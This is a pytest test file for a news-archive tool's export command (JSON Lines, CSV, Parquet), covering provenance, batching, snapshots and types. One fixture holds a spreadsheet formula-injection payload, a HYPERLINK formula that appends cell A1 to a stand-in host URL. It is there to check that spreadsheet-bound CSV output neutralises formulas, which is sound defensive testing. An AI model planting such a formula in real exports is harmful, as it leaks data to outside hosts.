"""`archiver export`: JSON Lines, CSV and Parquet with provenance, filters, batches, progress bar."""

import csv
import io
import json
import os
import pty
import sqlite3
import subprocess
import sys
import threading
import time
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta, timezone

import pytest
from conftest import ROOT, archiver, assert_one_line_error, rows, run_archiver
from test_search import ARTICLES, build_archive

from archiver import export
from archiver.export import FORMULA_START, export_columns, iter_batches, write_parquet
from archiver.store import Archive

PROVENANCE = ("capture_id", "sha256", "fetched_at", "extractor_version")


@pytest.fixture
def db(tmp_path):
    return build_archive(tmp_path / "archive.db")


def columns(db) -> tuple[str, ...]:
    with Archive(db) as archive:
        return export_columns(archive)


def captures(db) -> dict:
    """canonical URL -> (capture id, sha256 of that capture), read from the captures table itself."""
    return {url: (cid, sha) for cid, url, sha in rows(db, "SELECT id, url, sha256 FROM captures")}


def test_jsonl_rows_carry_provenance(db, tmp_path):
    out = tmp_path / "a.jsonl"
    result = archiver("export", "--db", db, "--format", "jsonl", "-o", out)
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["canonical_url"] for r in records] == [
        a["canonical_url"] for a in sorted(ARTICLES, key=lambda a: a["published_at"])
    ]
    expected = captures(db)
    for record in records:
        assert tuple(record) == columns(db)
        assert (record["capture_id"], record["sha256"]) == expected[record["canonical_url"]]
        assert record["fetched_at"] and record["extractor_version"]
        assert record["images"] == [] and isinstance(record["provenance"], dict)  # JSON columns parsed
    assert records[-1]["title"] == "Đà Nẵng xử phạt 12 cơ sở vi phạm"
    assert "3 articles written" in result.stderr


def test_csv_with_bom_and_filters(db, tmp_path):
    out = tmp_path / "a.csv"
    result = archiver(
        "export", "--db", db, "--format", "csv", "--bom", "--site", "hue", "--since", "2024-01-01", "-o", out
    )
    assert result.returncode == 0, result.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["title"] for r in table] == ["Hội nghị tài chính công năm 2024"]
    assert all(table[0][name] for name in PROVENANCE)
    # to stdout: a subprocess, since export writes to file descriptor 1 itself, out of click's runner's reach
    result = run_archiver("export", "--db", db, "--format", "csv", "--until", "2023-12-31")
    assert [r["canonical_url"] for r in csv.DictReader(io.StringIO(result.stdout))] == ["https://hue.gov.vn/tin/3"]


def test_parquet_in_batches(db, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "a.parquet"
    result = archiver("export", "--db", db, "--format", "parquet", "--site", "hue", "-o", out)
    assert result.returncode == 0, result.stderr
    table = pq.read_table(out)
    assert table.column_names == list(columns(db))
    records = table.to_pylist()
    assert [r["title"] for r in records] == [
        "Phòng chống tai nạn giao thông dịp Tết",
        "Hội nghị tài chính công năm 2024",
    ]
    assert [r["views"] for r in records] == [50, 300]
    expected = captures(db)
    assert all((r["capture_id"], r["sha256"]) == expected[r["canonical_url"]] for r in records)


def test_parquet_needs_a_file_and_pyarrow(db, tmp_path):
    assert_one_line_error(archiver("export", "--db", db, "--format", "parquet"), 1)
    fake = tmp_path / "no_pyarrow" / "pyarrow"
    fake.mkdir(parents=True)
    (fake / "__init__.py").write_text("raise ImportError('pyarrow hidden for this test')\n")
    env = {**os.environ, "PYTHONPATH": f"{fake.parent}{os.pathsep}{ROOT}"}
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "archiver",
            "export",
            "--db",
            str(db),
            "--format",
            "parquet",
            "-o",
            str(tmp_path / "x.parquet"),
        ],
        env=env,
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert_one_line_error(result, 1)
    assert "pip install -e '.[parquet]'" in result.stderr


def test_rows_come_in_bounded_batches(db):
    with Archive(db) as archive:
        sizes = [len(batch) for batch in iter_batches(archive, size=2)]
    assert sizes == [2, 1]


def test_parquet_keeps_a_text_another_tool_stored_as_bytes_that_are_no_utf8(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    db = build_archive(tmp_path / "archive.db", [AWKWARD_CELLS])
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET author = CAST(x'4e677579ed656e20ff41' AS TEXT)")  # Latin-1 í, a stray byte
    with Archive(db, readonly=True) as archive:
        assert write_parquet(archive, tmp_path / "a.parquet") == 1
    (row,) = pq.read_table(tmp_path / "a.parquet").to_pylist()
    assert row["author"] == "Nguy\ufffden \ufffdA" and row["title"] == AWKWARD_CELLS["title"]


@pytest.mark.parametrize("value", ["not [json", '{"an": "object"}'])
def test_parquet_export_of_a_json_column_another_tool_broke_is_one_line(tmp_path, value):
    """images holds a list archiver wrote; a value edited to something else is a clear error, not a traceback."""
    pytest.importorskip("pyarrow")
    db = build_archive(tmp_path / "archive.db", [AWKWARD_CELLS])
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET images = ?", [value])
    result = run_archiver("export", "--db", db, "--format", "parquet", "-o", tmp_path / "a.parquet")
    assert_one_line_error(result, 1)
    assert "images" in result.stderr and "--format jsonl" in result.stderr
    assert not (tmp_path / "a.parquet").exists()


def exported(db, fmt: str = "jsonl") -> bytes:
    with Archive(db, readonly=True) as archive:
        chunks = export.jsonl_chunks(archive) if fmt == "jsonl" else export.csv_chunks(archive)
        return b"".join(chunk for chunk, _ in chunks)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_batches_read_side_by_side_are_the_lines_in_order(tmp_path, monkeypatch, fmt):
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    monkeypatch.setattr(export, "READERS", 1)
    one = exported(db, fmt)
    assert one.count(b"\n") >= 5
    for readers, size in ((2, 1), (3, 1), (2, 2)):
        monkeypatch.setattr(export, "READERS", readers)
        monkeypatch.setattr(export, "BATCH_SIZE", size)
        assert exported(db, fmt) == one


def test_a_batch_joined_out_of_order_is_read_line_by_line(tmp_path, monkeypatch):
    """SQLite joins a batch's lines in the order its plan read them: a plan that read them in another order
    (forced here) is caught by the keys joined beside them, and the batch is read again row by row."""
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    expected = exported(db)
    monkeypatch.setattr(export, "WANTED", export.WANTED + " ORDER BY wanted.key DESC")
    assert exported(db) == expected


def test_readers_side_by_side_share_one_snapshot_while_a_crawl_commits(tmp_path):
    """Every reader sees what the archive's own connection sees, however often a writer commits meanwhile."""
    db = build_archive(tmp_path / "archive.db")
    stop = threading.Event()

    def crawl() -> None:
        with closing(sqlite3.connect(db, timeout=10)) as conn:
            while not stop.is_set():
                with conn:
                    conn.execute("UPDATE articles SET views = coalesce(views, 0) + 1")
                time.sleep(0.002)  # a crawl commits a batch at a time, not without pause

    writer = threading.Thread(target=crawl)
    writer.start()
    seen = []
    try:
        with Archive(db, readonly=True) as archive:
            conn = archive.db.conn
            for _ in range(30):
                with export.read_snapshot(conn), export.snapshot_readers(archive, 2) as others:
                    assert len(others) == 2
                    views = [c.execute("SELECT sum(views) FROM articles").fetchone()[0] for c in (conn, *others)]
                    time.sleep(0.01)  # the writer commits again: no reader sees it
                    views += [c.execute("SELECT sum(views) FROM articles").fetchone()[0] for c in (conn, *others)]
                seen.append(views[0])
                assert views == [views[0]] * 6
    finally:
        stop.set()
        writer.join()
    assert len(set(seen)) > 1  # the writer did commit between the exports


def test_a_locked_archive_is_read_by_one_reader(tmp_path, monkeypatch):
    """A writer holding its lock past the wait: the export reads alone, in its own snapshot, all the same."""
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    monkeypatch.setattr(export, "READERS", 1)
    expected = exported(db)
    monkeypatch.setattr(export, "READERS", 2)
    with closing(sqlite3.connect(db)) as writer:
        writer.execute("BEGIN IMMEDIATE")
        writer.execute("UPDATE articles SET title = 'not committed'")
        with (
            Archive(db, readonly=True) as archive,
            export.read_snapshot(archive.db.conn),
            export.snapshot_readers(archive, 1) as others,
        ):
            assert others == []
        assert exported(db) == expected
        writer.rollback()


def test_a_reader_thread_failure_reaches_the_caller(tmp_path, monkeypatch):
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    monkeypatch.setattr(export, "BATCH_SIZE", 1)

    @contextmanager
    def elsewhere(archive, count):  # a reader whose file has no articles table: its first read fails
        with closing(sqlite3.connect(tmp_path / "other.db", check_same_thread=False)) as conn:
            yield [conn]

    monkeypatch.setattr(export, "snapshot_readers", elsewhere)
    with pytest.raises(sqlite3.OperationalError, match="no such table"):
        exported(db)


def test_progress_bar_on_a_terminal_only(db, tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [
        sys.executable,
        "-m",
        "archiver",
        "export",
        "--db",
        str(db),
        "--format",
        "csv",
        "-o",
        str(tmp_path / "a.csv"),
    ]
    primary, secondary = pty.openpty()  # stderr is a terminal, as when a person runs it
    try:
        subprocess.run(command, env=env, stderr=secondary, stdout=subprocess.DEVNULL, cwd=ROOT, timeout=60, check=True)
        os.close(secondary)
        shown = b""
        while True:
            try:
                chunk = os.read(primary, 4096)
            except OSError:  # EIO: the child side is closed and everything has been read
                break
            if not chunk:
                break
            shown += chunk
    finally:
        os.close(primary)
    assert b"exporting" in shown and b"3/3" in shown
    piped = subprocess.run(command, env=env, capture_output=True, text=True, cwd=ROOT)
    assert "exporting" not in piped.stderr and "3 articles written" in piped.stderr


SPREADSHEET_TRAPS = dict(
    canonical_url="https://danang.gov.vn/tin/9",
    site="danang",
    title='=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    lead="- Tin tức sự kiện",
    body="+84 236 3822 000 là số đường dây nóng.",
    published_at="2024-04-01T10:00:00+07:00",
    author="@Minh Anh",
    views=7,
    category="Thanh tra",
)


def test_csv_for_spreadsheets_runs_no_formula(tmp_path):
    db = build_archive(tmp_path / "archive.db", [SPREADSHEET_TRAPS])
    out = tmp_path / "a.csv"
    assert run_archiver("export", "--db", db, "--format", "csv", "--bom", "-o", out).returncode == 0
    (row,) = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))
    for name in ("title", "lead", "body", "author"):
        assert row[name] == "'" + SPREADSHEET_TRAPS[name]  # shown as text, the ' before it
    assert row["views"] == "7" and row["canonical_url"] == SPREADSHEET_TRAPS["canonical_url"]
    # for programs (no --bom) every cell is exactly as stored
    plain = run_archiver("export", "--db", db, "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(plain.stdout))
    assert all(row[name] == SPREADSHEET_TRAPS[name] for name in ("title", "lead", "body", "author"))


def test_parquet_keeps_the_types(db, tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "a.parquet"
    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", out).returncode == 0
    table = pq.read_table(out)
    schema = table.schema
    assert schema.field("published_at").type == pa.timestamp("ms", tz="+07:00")
    assert schema.field("fetched_at").type == pa.timestamp("ms", tz="UTC")
    assert schema.field("views").type == schema.field("words").type == pa.int64()
    assert schema.field("images").type == pa.list_(pa.string())
    assert schema.field("provenance").type == pa.map_(pa.string(), pa.string())
    records = {r["canonical_url"]: r for r in table.to_pylist()}
    danang = records["https://danang.gov.vn/tin/1"]
    assert danang["published_at"] == datetime(2024, 3, 5, 8, 0, tzinfo=timezone(timedelta(hours=7)))
    assert danang["published_at"].utcoffset() == timedelta(hours=7)
    ((fetched,),) = rows(db, "SELECT fetched_at FROM articles WHERE canonical_url = 'https://danang.gov.vn/tin/1'")
    assert danang["fetched_at"] == datetime.fromisoformat(fetched).astimezone(UTC)
    assert danang["views"] == 1200 and danang["images"] == [] and danang["attachments"] == []
    assert danang["words"] == 25  # this body does not start with its lead (8 words): counted besides (17)


def test_a_date_without_time_is_midnight_in_vietnam(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    db = build_archive(tmp_path / "archive.db", [ARTICLES[0] | {"published_at": "2024-03-05"}])
    out = tmp_path / "a.parquet"
    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", out).returncode == 0
    (record,) = pq.read_table(out).to_pylist()
    assert record["published_at"] == datetime(2024, 3, 5, tzinfo=timezone(timedelta(hours=7)))


def test_categories_exported_as_a_list(db, tmp_path):
    with sqlite3.connect(db) as conn:
        conn.execute(
            "UPDATE articles SET categories = ? WHERE site = 'danang'",
            (json.dumps(["Thanh tra", "Tin tức sự kiện"], ensure_ascii=False),),
        )
    out = tmp_path / "a.jsonl"
    assert run_archiver("export", "--db", db, "-o", out).returncode == 0
    records = {r["site"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    assert records["danang"]["categories"] == ["Thanh tra", "Tin tức sự kiện"]
    stored = {url: json.loads(value) for url, value in rows(db, "SELECT canonical_url, categories FROM articles")}
    exported = map(json.loads, out.read_text(encoding="utf-8").splitlines())
    assert all(r["categories"] == stored[r["canonical_url"]] for r in exported)  # lists, as the archive holds them
    pq = pytest.importorskip("pyarrow.parquet")
    assert run_archiver("export", "--db", db, "--format", "parquet", "-o", tmp_path / "a.parquet").returncode == 0
    table = pq.read_table(tmp_path / "a.parquet")
    assert {r["site"]: r["categories"] for r in table.to_pylist()}["danang"] == ["Thanh tra", "Tin tức sự kiện"]


# Cells csv.writer quotes or not: a comma, quotes, a lone CR, a LF; formula starts, non-ASCII, NULL.
AWKWARD_CELLS = dict(
    SPREADSHEET_TRAPS,
    canonical_url="https://danang.gov.vn/tin/awkward",
    category="Kinh tế, Xã hội",
    title='Hội nghị "Chuyển đổi số", năm 2024',
    lead="Dòng một\rhết",
    body="\tthụt lề\ndòng hai",
    author=None,
    views=-3,
)


def python_csv(db, bom: bool) -> bytes:
    """What csv.writer makes of the rows iter_batches reads: the reference the export's CSV must equal."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    with Archive(db) as archive:
        columns = export_columns(archive)
        writer.writerow(columns)
        for batch in iter_batches(archive):
            for row in batch:
                cells = [row[c] for c in columns]
                if bom:  # a text a spreadsheet would run, after a '
                    cells = [f"'{v}" if isinstance(v, str) and v.startswith(FORMULA_START) else v for v in cells]
                writer.writerow(cells)
    return (("\ufeff" if bom else "") + out.getvalue()).encode()


@pytest.mark.parametrize("bom", [False, True], ids=["plain", "bom"])
def test_csv_is_byte_for_byte_what_csv_writer_writes(tmp_path, bom):
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    out = tmp_path / "a.csv"
    assert run_archiver("export", "--db", db, "--format", "csv", *(["--bom"] if bom else []), "-o", out).returncode == 0
    assert out.read_bytes() == python_csv(db, bom)


def test_jsonl_keeps_values_and_a_json_column_that_is_not_json(tmp_path):
    db = build_archive(tmp_path / "archive.db", [AWKWARD_CELLS])
    with sqlite3.connect(db) as conn:  # a tool other than archiver wrote a text that is not JSON
        conn.execute("UPDATE articles SET images = 'not [json', attachments = ''")
    lines = run_archiver("export", "--db", db, "--format", "jsonl").stdout.splitlines()
    (record,) = [json.loads(line) for line in lines]
    for name in ("category", "title", "lead", "body", "author", "views"):
        assert record[name] == AWKWARD_CELLS[name]
    assert record["images"] == "not [json"  # kept as a string, not lost
    assert record["attachments"] is None
    assert record["provenance"] == json.loads(rows(db, "SELECT provenance FROM articles")[0][0])


def test_parquet_row_groups_hold_the_same_table(tmp_path, monkeypatch):
    pq = pytest.importorskip("pyarrow.parquet")
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    with Archive(db, readonly=True) as archive:
        assert write_parquet(archive, tmp_path / "one.parquet") == 5
        monkeypatch.setattr(export, "PARQUET_BATCH_SIZE", 2)
        assert write_parquet(archive, tmp_path / "three.parquet") == 5
    one, three = pq.ParquetFile(tmp_path / "one.parquet"), pq.ParquetFile(tmp_path / "three.parquet")
    assert (one.num_row_groups, three.num_row_groups) == (1, 3)
    assert three.read().equals(one.read()) and three.schema_arrow.equals(one.schema_arrow)


def test_parquet_read_row_by_row_holds_the_same_table(tmp_path, monkeypatch):
    """A batch SQLite reads out of order is read again row by row: the same table, NULLs, empty texts and bytes
    that are no UTF-8 included."""
    pq = pytest.importorskip("pyarrow.parquet")
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE articles SET title = '', updated_at = NULL WHERE site = 'danang'")
        conn.execute("UPDATE articles SET source = CAST(x'4e677579ed656e' AS TEXT) WHERE site = 'hue'")
    with Archive(db, readonly=True) as archive:
        assert write_parquet(archive, tmp_path / "joined.parquet") == 5
        monkeypatch.setattr(export, "in_order", lambda count: None)  # as if every batch came out of order
        assert write_parquet(archive, tmp_path / "rows.parquet") == 5
    joined, by_rows = pq.read_table(tmp_path / "joined.parquet"), pq.read_table(tmp_path / "rows.parquet")
    assert by_rows.equals(joined) and by_rows.schema.equals(joined.schema, check_metadata=True)
    assert {r["title"] for r in joined.to_pylist() if r["site"] == "danang"} == {""}


def test_parquet_batch_longer_than_sqlite_allows_a_value_is_read_row_by_row(tmp_path):
    """A column's texts joined longer than SQLite's longest value (1 GB by default; lowered here): the rows one
    by one, the same table."""
    pq = pytest.importorskip("pyarrow.parquet")
    db = build_archive(tmp_path / "archive.db", [*ARTICLES, SPREADSHEET_TRAPS, AWKWARD_CELLS])
    with Archive(db, readonly=True) as archive:
        assert write_parquet(archive, tmp_path / "joined.parquet") == 5
        cells = [value for row in archive.db.execute("SELECT * FROM articles") for value in row]
        longest = max(len(str(value).encode()) for value in cells)  # a cell; a column's cells joined are longer
        archive.db.conn.setlimit(sqlite3.SQLITE_LIMIT_LENGTH, longest + 32)
        assert write_parquet(archive, tmp_path / "rows.parquet") == 5
    assert pq.read_table(tmp_path / "rows.parquet").equals(pq.read_table(tmp_path / "joined.parquet"))


def test_the_publication_order_is_read_from_its_index(db):
    """Migration 10: an export's order is an index scan, not a sort of every article's keys."""
    with Archive(db, readonly=True) as archive:
        plan = archive.db.execute(
            "EXPLAIN QUERY PLAN SELECT rowid FROM articles ORDER BY published_at, canonical_url"
        ).fetchall()
    details = " ".join(row[-1] for row in plan)
    assert "articles_published_order" in details and "TEMP B-TREE" not in details


def test_jsonl_json_columns_in_any_form(tmp_path):
    """The empty list (written as a constant), a list written with spaces, an empty text (null) and JSON
    another tool spaced out: each the value it holds."""
    db = build_archive(tmp_path / "archive.db", [AWKWARD_CELLS])
    with sqlite3.connect(db) as conn:
        conn.execute(
            """UPDATE articles SET images = '[]', attachments = '[ ]', categories = '', provenance = '{"a" :  "b"}'"""
        )
    (line,) = exported(db).splitlines()
    for written in (b'"images":[],"attachments":[],', b'"categories":null,', b'"provenance":{"a":"b"},'):
        assert written in line


def test_readers_are_the_cores_this_process_may_run_on(monkeypatch):
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {3}, raising=False)
    assert export.usable_cores() == 1
